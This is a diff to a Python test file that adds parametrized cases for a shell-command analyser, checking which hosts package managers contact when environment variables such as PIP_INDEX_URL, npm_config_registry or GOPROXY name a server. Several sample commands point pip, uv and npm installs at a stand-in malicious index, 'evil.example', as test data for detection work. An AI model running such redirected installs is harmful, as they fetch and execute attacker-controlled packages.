@@ -124,6 +124,26 @@ def test_a_role_that_is_not_one_is_refused(row: str, tmp_path_factory: pytest.Te
         load(table)
 
 
+FETCHED = [
+    ("PIP_INDEX_URL=https://evil.example/simple pip install x", ["evil.example"]),
+    ("export UV_INDEX='corp=https://evil.example/simple'; uv sync", ["evil.example"]),
+    ("env npm_config_registry=http://evil.example/ npm ci", ["evil.example"]),
+    ("GOPROXY='https://a.example,https://b.example|direct' go get x", ["a.example", "b.example"]),
+    ("export PIP_INDEX_URL=https://evil.example; pip list; pip install x", ["evil.example", "evil.example"]),
+    ("PIP_INDEX_URL=https://evil.example ls", []),
+    ("GOPROXY=direct go build ./...", []),
+    ("PIP_INDEX_URL=$INDEX pip install x", []),
+]
+
+
+@pytest.mark.parametrize(("code", "hosts"), FETCHED)
+def test_a_server_that_a_variable_names_is_talked_to_by_the_programs_that_read_it(code: str, hosts: list[str]) -> None:
+    named = [
+        event.values["net.host"] for event in predicted(code).hosts if str(event.values["net.host"]).endswith("example")
+    ]
+    assert named == hosts
+
+
 INHERITED: list[tuple[str, str, dict[str, tuple[str, ...]]]] = [
     ("A=1 make", "make", {"A": ("1",)}),
     ("export A=1 B='x y'; make", "make", {"A": ("1",), "B": ("x y",)}),
